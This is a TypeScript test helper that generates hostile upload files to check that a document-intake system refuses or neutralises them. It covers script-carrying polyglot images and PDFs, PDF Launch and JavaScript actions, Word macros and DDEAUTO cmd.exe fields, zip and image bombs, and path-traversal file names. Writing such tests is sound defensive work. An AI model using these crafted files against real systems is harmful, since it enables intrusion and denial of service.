import { crc32, deflateSync } from 'node:zlib';
import { strToU8, type Zippable, zipSync } from 'fflate';
import { makePdf } from '../packages/official-document/src/source/pdf/pdf-for-tests.ts';
import {
  box,
  makeFilm,
  makeMp3,
  makeOgg,
  makePhoto,
  makeSheet,
  makeWav,
  makeWebm,
  makeWord,
} from './evidence-files.ts';

/** A file that wants harm. */
export interface Hostile {
  family: string;
  name: string;
  bytes: Buffer;
  /** What of it must not be found in anything that is kept. */
  payload: string;
  /** Refused, or kept without its payload. */
  fate: 'refused' | 'neutralised';
}

/** Numbers from 0 (included) to 1 (excluded). */
export type Random = () => number;

interface Draw {
  upTo(n: number): number;
  pick<T>(list: readonly T[]): T;
  bytes(length: number): Buffer;
  /** A mark that is found nowhere by chance. */
  mark: string;
}

type Made = Omit<Hostile, 'family' | 'payload'>;
type Family = (draw: Draw) => Promise<Made> | Made;

const script = (mark: string) => `<html><script>alert("${mark}")</script></html>`;
const pdfPage = (text = 'Kế hoạch') => Buffer.from(makePdf([{ texts: [{ text, x: 80, y: 80 }] }]));
const zipOf = (files: Zippable) => Buffer.from(zipSync(files));

/** A PDF with one more object that its catalogue opens. */
function pdfWith(object: string): Buffer {
  const text = pdfPage().toString('latin1');
  const at = text.indexOf('<< /Type /Catalog');
  return Buffer.from(`${text.slice(0, at)}${object}\n${text.slice(at)}`, 'latin1');
}

function packedObjects(mark: string): string {
  const packed = deflateSync(Buffer.from(`90 0 << /S /JavaScript /JS (app.alert("${mark}")) >>`)).toString('latin1');
  return `91 0 obj << /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${packed.length} >> stream\n${packed}\nendstream endobj`;
}

/** A PNG that claims a size, with the data of a few lines. */
function hugePng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0], 8);
  const mark = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    mark,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(90_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Puts a segment behind the start of a JPEG. */
function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

/** Notes of a camera that lie: counts without end, directories that lead to themselves, offsets outside. */
function lyingExif(draw: Draw): Buffer {
  const head = Buffer.from('Exif\0\0II*\0\x08\0\0\0', 'latin1');
  const count = draw.pick([1, 40, 0xffff]);
  const directory = Buffer.alloc(2 + 40 * 12 + 4);
  directory.writeUInt16LE(count, 0);
  for (let n = 0; n < 40; n++) {
    const at = 2 + n * 12;
    directory.writeUInt16LE(draw.pick([0x8769, 0x8825, 0x0112, 0x010f, 0x9003, 0x0002]), at);
    directory.writeUInt16LE(draw.pick([0, 2, 3, 4, 5, 7, 10, 13, 255]), at + 2);
    directory.writeUInt32LE(draw.pick([1, 3, 0x7fffffff, 0xffffffff]), at + 4);
    directory.writeUInt32LE(draw.pick([8, 0, 20, 0xfffffff0, 100]), at + 8);
  }
  directory.writeUInt32LE(8, directory.length - 4);
  return Buffer.concat([head, directory, Buffer.from(draw.mark)]);
}

function vba(mark: string): Zippable {
  return { 'word/vbaProject.bin': strToU8(`Sub AutoOpen() ${mark} End Sub`) };
}

function rels(type: string, target: string): Zippable {
  const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const xml = `<Relationships><Relationship Id="r1" Type="${base}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  return { 'word/_rels/settings.xml.rels': strToU8(xml) };
}

const refuse = (name: string, bytes: Buffer): Made => ({ name, bytes, fate: 'refused' });
const neutral = (name: string, bytes: Buffer): Made => ({ name, bytes, fate: 'neutralised' });

const recordings = (): [string, Buffer][] => [
  ['phim.mp4', makeFilm()],
  ['phim.mov', makeFilm('qt  ')],
  ['ghi-am.m4a', makeFilm('M4A ')],
  ['loa.mp3', makeMp3()],
  ['loa.wav', makeWav()],
  ['loa.ogg', makeOgg()],
  ['phim.webm', makeWebm()],
];

const families: Record<string, Family> = {
  'JPEG with HTML behind': async ({ mark, upTo }) =>
    neutral(
      'anh.jpg',
      Buffer.concat([await makePhoto({ width: 64, height: 48, seed: upTo(999) }), Buffer.from(script(mark))]),
    ),
  'JPEG with a zip behind': async ({ mark, upTo }) => {
    const photo = await makePhoto({ width: 64, height: 48, seed: upTo(999) });
    return neutral('anh.docx', Buffer.concat([photo, zipOf({ 'a.html': [strToU8(script(mark)), { level: 0 }] })]));
  },
  'JPEG with a program in its notes': async ({ mark, pick, upTo }) => {
    const photo = await makePhoto({ width: 64, height: 48, seed: upTo(999) });
    return neutral(
      'anh.php.jpg',
      withSegment(photo, pick([0xfe, 0xe0, 0xe2, 0xed]), Buffer.from(`<?php ${mark} ?>${script(mark)}`)),
    );
  },
  'JPEG with notes that lie': async (draw) =>
    neutral(
      'anh.jpg',
      withSegment(
        await makePhoto({ width: 64, height: 48, place: false, seed: draw.upTo(999) }),
        0xe1,
        lyingExif(draw),
      ),
    ),
  'a path for a name': async ({ pick, upTo, mark }) => {
    const names = [
      '../../../etc/cron.d/x',
      '..\\..\\kheo.lock',
      '/etc/passwd\0.jpg',
      'C:\\Windows\\system.ini',
      '....//....//x',
      'a/\u202egpj.exe',
      '%2e%2e%2fx',
      `${'x'.repeat(400)}.jpg`,
      '<img src=x onerror=alert(1)>.jpg',
      '.htaccess',
    ];
    const photo = await makePhoto({ width: 64, height: 48, seed: upTo(999) });
    return neutral(pick(names), Buffer.concat([photo, Buffer.from(mark)]));
  },
  'GIF that is a script': ({ mark, pick }) =>
    refuse(
      pick(['a.gif', 'a.jpg', 'a.js']),
      Buffer.from(`GIF89a/*\x01\0\x01\0\x80\0\0*/=1;alert("${mark}");`, 'latin1'),
    ),
  'SVG with a script': ({ mark, pick }) => {
    const head = pick([
      '',
      '\ufeff',
      '<?xml version="1.0"?>',
      '<!-- ảnh -->',
      '<!DOCTYPE svg [<!ENTITY x "y">]>',
      '\n\n  ',
    ]);
    return refuse(
      pick(['a.svg', 'a.jpg', 'a.png', 'a.pdf']),
      Buffer.from(
        `${head}<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${mark}')"><script>${mark}</script></svg>`,
      ),
    );
  },
  'a web page under another name': ({ mark, pick }) =>
    refuse(
      pick(['a.jpg', 'a.pdf', 'a.docx', 'a.mp4', 'a.html']),
      Buffer.from(pick(['', ' \n', '\ufeff', 'text ']) + script(mark)),
    ),
  'PDF with more around it': ({ mark, pick }) => {
    const zip = zipOf({ 'a.html': strToU8(script(mark)) });
    const page = pdfPage();
    return refuse(
      'a.pdf',
      pick([
        () => Buffer.concat([page, zip]),
        () => Buffer.concat([zip, page]),
        () => Buffer.concat([Buffer.from(script(mark)), page]),
        () => Buffer.concat([page, Buffer.from(script(mark))]),
        () => Buffer.concat([zip, Buffer.from('\n%%EOF'), page.subarray(0, 9)]),
        () => zipInside(page, zip),
      ])(),
    );
  },
  'PDF with a script': ({ mark, pick }) => {
    const plain = `90 0 obj << /S /JavaScript /JS (app.alert("${mark}")) >> endobj`;
    const escaped = `90 0 obj << /S /J#61vaScr#69pt /J#53 (app.alert("${mark}")) >> endobj`;
    return refuse('a.pdf', pdfWith(pick([plain, escaped, packedObjects(mark)])));
  },
  'PDF that carries or starts something': ({ mark, pick }) => {
    const inside = [
      '/S /Launch /F (cmd.exe)',
      '/Type /Filespec /EF << /F 92 0 R >> /EmbeddedFiles 93 0 R',
      '/Type /EmbeddedFile',
      '/Subtype /RichMedia',
      '/XFA [(a) 92 0 R]',
      '/S /SubmitForm /F (http://x.vn)',
      '/S /GoToE',
    ];
    return refuse('a.pdf', pdfWith(`90 0 obj << ${pick(inside)} /Note (${mark}) >> endobj`));
  },
  'DOCX that unpacks without end': ({ mark, upTo }) =>
    refuse('a.docx', makeWord(mark, { 'word/media/image1.png': new Uint8Array((20 + upTo(20)) * 1024 * 1024) })),
  'zips in zips': ({ mark, pick }) => {
    const inner = zipOf({ 'a.exe': strToU8(`MZ${mark}`) });
    const files: Zippable = { [pick(['word/embeddings/a.zip', 'word/media/a.bin', 'a.zip'])]: inner };
    const nested = {
      'word/embeddings/b.xlsx': makeSheet({ 'xl/embeddings/c.xlsx': makeSheet({ 'xl/x.exe': inner }) }),
    };
    return refuse(
      pick(['a.docx', 'a.zip', 'a.xlsx']),
      pick([() => zipOf(files), () => makeWord(mark, files), () => makeWord(mark, nested)])(),
    );
  },
  'DOCX that acts': ({ mark, pick }) => {
    const link = { 'word/embeddings/oleObject1.bin': strToU8(mark) };
    const field = `</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "${mark}"</w:instrText></w:r><w:r><w:t>`;
    return refuse(
      pick(['a.docx', 'a.docm', 'a.pdf']),
      pick([
        () => makeWord(mark, vba(mark)),
        () => makeWord(mark, rels('attachedTemplate', `http://x.vn/${mark}.dotm`)),
        () => makeWord(mark, link),
        () => makeWord(field),
        () => makeSheet({ 'xl/macrosheets/sheet1.xml': strToU8(mark) }),
        () => Buffer.concat([makeWord(mark), Buffer.from(script(mark))]),
      ])(),
    );
  },
  'a picture of enormous size': ({ upTo }) => refuse('a.png', hugePng(30_000 + upTo(20_000), 30_000 + upTo(20_000))),
  'nothing at all': ({ pick }) => refuse(pick(['a.jpg', 'a.pdf', 'a.docx', 'a.mp4']), Buffer.alloc(0)),
  'programs and archives under other names': ({ mark, pick, bytes }) => {
    const starts = [
      '4d5a9000',
      '7f454c460201',
      'cafebabe00000034',
      '526172211a0700',
      '377abcaf271c0004',
      '1f8b0800',
      '425a6839',
      'fd377a585a00',
      'd0cf11e0a1b11ae1',
      '7b5c72746631',
      '23212f62696e2f7368',
      '0061736d01000000',
      '4d534346',
      '53514c69746520',
    ];
    return refuse(
      pick(['a.jpg', 'a.pdf', 'a.docx', 'a.mp3']),
      Buffer.concat([Buffer.from(pick(starts), 'hex'), Buffer.from(mark), bytes(300)]),
    );
  },
  'what ends early': async ({ pick, mark }) => {
    const photo = await makePhoto({ width: 300, height: 200 });
    const whole = pick<[string, Buffer]>([
      ['a.jpg', photo],
      ['a.pdf', pdfPage(mark)],
      ['a.docx', makeWord(mark)],
      ...recordings().filter(([name]) => name !== 'loa.mp3'),
    ]);
    return refuse(whole[0], whole[1].subarray(0, Math.floor(whole[1].length * pick([0.4, 0.6, 0.8]))));
  },
  'a recording with more behind': ({ mark, pick }) => {
    const [name, bytes] = pick(recordings());
    const more = pick([
      Buffer.from(script(mark)),
      zipOf({ 'a.html': strToU8(script(mark)) }),
      Buffer.from(`MZ${mark.repeat(40)}`),
      box('evil', Buffer.from(mark)),
    ]);
    return refuse(name, Buffer.concat([bytes, more]));
  },
  'noise behind the mark of a format': ({ mark, pick, bytes }) => {
    const starts = [
      'ffd8ffe000104a464946',
      '89504e470d0a1a0a',
      '25504446',
      '504b0304',
      '49492a0008000000',
      '524946461000000057454250',
      '4f676753',
      '1a45dfa3',
      '0000001866747970',
      '494433',
    ];
    return refuse('a.bin', Buffer.concat([Buffer.from(pick(starts), 'hex'), bytes(2000), Buffer.from(mark)]));
  },
};

/** A zip before the end mark of a PDF, its remark reaching to the end of the file. */
function zipInside(page: Buffer, zip: Buffer): Buffer {
  const tail = Buffer.from('\nstartxref\n0\n%%EOF\n');
  const open = Buffer.from(zip);
  open.writeUInt16LE(tail.length, open.length - 2);
  return Buffer.concat([page.subarray(0, page.lastIndexOf('startxref')), open, tail]);
}

/** How many kinds of harm there are. */
export const familyCount = Object.keys(families).length;

/** `count` hostile files, each family in turn, drawn from `random`. */
export async function makeHostile(count: number, random: Random): Promise<Hostile[]> {
  const upTo = (n: number) => Math.floor(random() * n);
  const made: Hostile[] = [];
  for (let n = 0; n < count; n++) {
    const [family, make] = Object.entries(families)[n % familyCount] as [string, Family];
    const mark = `HAI${n}X${upTo(1e9).toString(36)}`;
    const draw: Draw = {
      upTo,
      pick: (list) => list[upTo(list.length)] as (typeof list)[number],
      bytes: (length) => Buffer.from(Array.from({ length }, () => upTo(256))),
      mark,
    };
    made.push({ family, payload: mark, ...(await make(draw)) });
  }
  return made;
}
